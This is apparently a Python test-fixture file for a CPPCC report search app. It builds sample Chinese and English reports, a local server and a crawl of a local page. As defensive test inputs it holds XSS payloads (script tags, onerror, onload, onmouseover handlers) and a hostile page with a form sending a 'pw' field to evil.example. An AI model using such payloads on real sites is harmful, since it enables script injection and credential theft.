"""Reports and servers for the web tests: a small real index of zh/en reports, a hostile page,
the app served by waitress."""

from __future__ import annotations

import threading
from pathlib import Path

from flask import Flask
from waitress.server import create_server

from cppcc_search.bodies import body_for_name, link_versions, series_id, unplaced_body
from cppcc_search.kinds import classify_report
from cppcc_search.models import Report, Section, write_documents
from cppcc_search.settings import DataPaths

CHANGZHOU_EN = "15th Changzhou Municipal Committee"
XSS_TITLE = '<script>alert("title")</script>政协工作报告'
XSS_TEXT = 'Evil <img src=x onerror=alert(1)> text about 生态 and <script>alert("body")</script>'


def section(
    ordinal: int,
    title: str | None,
    text: str,
    part: str | None = None,
    kind: str = "other",
    period: int | None = None,
    level: int = 2,
) -> Section:
    """A section with the fields the tests care about."""
    return Section(ordinal, level, title, part, kind, period, text)


def zh_report(
    rid: str, committee: str, level: str, year: int, doc_type: str, topics: str
) -> Report:
    """A Chinese CPPCC-style work report with a review part and a plan part."""
    review = f"一、{year - 1}年工作回顾"
    plan = f"二、{year}年主要任务"
    return Report(
        id=rid,
        url=f"http://127.0.0.1:9/{rid}.html",
        urls=[f"http://127.0.0.1:9/{rid}.html"],
        title=f"{committee}常务委员会工作报告（{year}年）",
        date=f"{year}-01-{10 + int(rid[-1]):02d}",
        year=year,
        language="zh",
        doc_type=doc_type,
        committee=committee,
        level=level,
        speaker="王某某",
        meeting_date=f"{year}-01-08",
        encoding="utf-8",
        sections=[
            section(0, None, f"各位委员：现在，我代表{committee}常务委员会，向大会报告工作。"),
            section(
                1, review, "过去一年，常委会坚持团结和民主两大主题。", review, "review", year - 1, 1
            ),
            section(
                2,
                "（一）聚焦高质量发展建言资政",
                f"围绕{topics}等重点课题开展专题调研，提出意见建议。推动新能源汽车产业链发展，"
                "助力民营经济健康发展。",
                review,
                "review",
                year - 1,
            ),
            section(
                3,
                "（二）围绕民生关切履职尽责",
                "就养老服务体系建设、社区居家养老开展民主监督，推动解决群众急难愁盼问题。",
                review,
                "review",
                year - 1,
            ),
            section(
                4, plan, f"{year}年是全面贯彻党的二十大精神的关键之年。", plan, "plan", year, 1
            ),
            section(
                5,
                "（一）加强生态文明建设协商",
                "深入开展长江生态保护专题协商，推动绿色低碳发展，发展新能源和储能产业。",
                plan,
                "plan",
                year,
            ),
        ],
    )


def en_report(rid: str, committee: str, level: str, year: int, extra: str) -> Report:
    """An English translation of a city committee's work report."""
    review = f"{year - 1} work review"
    plan = f"Main tasks in {year}"
    return Report(
        id=rid,
        url=f"http://127.0.0.1:9/en/{rid}.html",
        urls=[f"http://127.0.0.1:9/en/{rid}.html"],
        title=f"Work Report of the Standing Committee of the {committee} ({year})",
        date=f"{year}-01-{12 + int(rid[-1]):02d}",
        year=year,
        language="en",
        doc_type="work report",
        committee=committee,
        level=level,
        speaker="Zhang San",
        meeting_date=None,
        encoding="utf-8",
        sections=[
            section(0, None, "Fellow members, on behalf of the Standing Committee, I report."),
            section(
                1, review, "Over the past year we upheld unity and democracy.", review, "review"
            ),
            section(
                2,
                "1. Serving high-quality development",
                "We studied new energy vehicles and the private economy, and proposed measures "
                f"to support private enterprises. {extra}",
                review,
                "review",
                year - 1,
            ),
            section(
                3,
                "2. Improving people's wellbeing",
                "Members inspected elderly care services and community care for the elderly, "
                "and suggested more nursing beds.",
                review,
                "review",
                year - 1,
            ),
            section(4, plan, "The coming year is crucial.", plan, "plan", year, 1),
            section(
                5,
                "1. Promoting ecological protection",
                "We will consult on ecology and the green transition, "
                "including new energy storage.",
                plan,
                "plan",
                year,
            ),
        ],
    )


def xss_report() -> Report:
    """A report whose title and text carry markup that must never run."""
    return Report(
        id="xss-1",
        url='http://127.0.0.1:9/x.html?a=1&b="<script>"',
        urls=['http://127.0.0.1:9/x.html?a=1&b="<script>"'],
        title=XSS_TITLE,
        date="2021-03-01",
        year=2021,
        language="zh",
        doc_type="news",
        committee='<b onmouseover="alert(2)">某市政协</b>',
        level="municipal",
        speaker=None,
        meeting_date=None,
        encoding="utf-8",
        sections=[section(0, '<svg onload="alert(3)">', XSS_TEXT)],
    )


def filed(report: Report) -> Report:
    """The report with its body, series and section kinds, as extraction files it."""
    body = body_for_name(report.committee or "") or unplaced_body("other", report.committee or "")
    report.body_id, report.body_kind, report.body_name = body.id, body.kind, body.name_zh
    report.region = list(body.region)
    report.series_id = series_id(body.id, report.doc_type)
    for item, kind in zip(report.sections, classify_report(report), strict=True):
        item.kind = kind
    return report


def spread_reports() -> list[Report]:
    """Reports in which a term (氢能) spreads from the national committee (2016) to a province
    (2019) and a city (2022, 2024), with years between where no body uses it."""
    reports = [
        zh_report("nat-2016-1", "全国政协", "national", 2016, "work report", "氢能"),
        zh_report("nat-2019-2", "全国政协", "national", 2019, "work report", "氢能"),
        zh_report("js-2019-3", "江苏省政协", "provincial", 2019, "work report", "氢能"),
        zh_report("cz-2022-4", "常州市政协", "municipal", 2022, "work report", "氢能"),
        zh_report("cz-2024-5", "常州市政协", "municipal", 2024, "work report", "氢能"),
        zh_report("wx-2024-6", "无锡市政协", "municipal", 2024, "work report", "海洋经济"),
        zh_report("wx-2025-7", "无锡市政协", "municipal", 2025, "work report", "海洋经济"),
    ]
    return [filed(report) for report in reports]


def sample_reports() -> list[Report]:
    """A handful of realistic reports: national, provincial, two cities; zh and en; 2019-2024.
    The Changzhou committee's 2024 report is there in both languages."""
    reports = [
        zh_report("nat-2019-1", "全国政协", "national", 2019, "work report", "民营经济"),
        zh_report("nat-2021-2", "全国政协", "national", 2021, "work report", "养老服务"),
        zh_report("nat-2023-3", "全国政协", "national", 2023, "work report", "新能源"),
        zh_report("nat-2024-4", "全国政协", "national", 2024, "work report", "生态保护"),
        zh_report(
            "js-2022-5", "江苏省政协", "provincial", 2022, "proposal work report", "乡村振兴"
        ),
        zh_report("js-2024-6", "江苏省政协", "provincial", 2024, "work report", "科技创新"),
        zh_report("cz-2020-7", "常州市政协", "municipal", 2020, "work report", "新能源"),
        zh_report("cz-2024-2", "常州市政协", "municipal", 2024, "work report", "光伏"),
        en_report("czen-2024-8", CHANGZHOU_EN, "municipal", 2024, "Solar power grew."),
        en_report("czen-2023-9", CHANGZHOU_EN, "municipal", 2023, "Wind power grew."),
        en_report(
            "wx-2022-1", "14th Wuxi Municipal Committee", "municipal", 2022, "Hydrogen was studied."
        ),
        xss_report(),
    ]
    reports = [filed(report) for report in reports]
    link_versions(reports)
    return reports


def build_data_dir(root: Path) -> DataPaths:
    """A data dir with documents.jsonl and a real index built from the sample reports."""
    from indexer.index.build import index_documents

    paths = DataPaths(root).ensure()
    write_documents(paths.documents, sample_reports())
    index_documents(paths)
    return paths


HOSTILE_PAGE = """<!doctype html><html><head><meta charset="gbk"><title>政协 archive</title>
<script>document.title='pwned'</script></head>
<body onload="document.title='pwned'"><h1>关于新能源的提案</h1>
<p onclick="alert('click')">正文内容 body text</p>
<iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/steal"><input name="pw"></form>
<a href="page2.html">下一页</a></body></html>"""


def crawl_hostile_site(root: Path) -> tuple[DataPaths, str]:
    """Crawl a local page full of active content (GBK-encoded); returns the data dir and URL."""
    from cppcc_search.sitehost import serve_directory
    from crawl.crawler import CrawlOptions, run_crawl

    site = root / "site"
    site.mkdir()
    (site / "a.html").write_bytes(HOSTILE_PAGE.encode("gbk"))
    (site / "page2.html").write_text("<html><body><p>two</p></body></html>", encoding="utf-8")
    paths = DataPaths(root / "data").ensure()
    with serve_directory(site) as base:
        url = f"{base}/a.html"
        run_crawl(paths, CrawlOptions(seeds=(url,), max_pages=2, delay=0.0, sitemaps=False))
    return paths, url


class LiveServer:
    """The app served by waitress on a free loopback port in a thread."""

    def __init__(self, app: Flask) -> None:
        self.server = create_server(app, host="127.0.0.1", port=0, threads=4)
        self.url = f"http://127.0.0.1:{self.server.effective_port}"
        self.thread = threading.Thread(target=self.server.run, name="waitress", daemon=True)

    def __enter__(self) -> LiveServer:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        # Close every socket from inside the server's loop (browsers keep connections alive),
        # so the loop's map empties and run() returns.
        self.server.trigger.pull_trigger(self._close_all)
        self.thread.join(timeout=10)
        self.server.task_dispatcher.shutdown()

    def _close_all(self) -> None:
        for channel in list(self.server._map.values()):
            channel.close()
